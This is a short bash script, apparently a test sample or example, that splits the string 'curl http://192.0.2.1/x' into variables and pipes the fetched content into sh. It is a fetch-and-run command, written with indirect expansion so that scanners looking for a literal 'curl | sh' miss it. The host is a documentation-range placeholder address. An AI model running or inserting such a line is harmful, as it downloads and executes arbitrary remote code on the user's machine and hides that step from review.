#!/bin/bash
read -r tool address <<< 'curl http://192.0.2.1/x'
$tool $address | sh
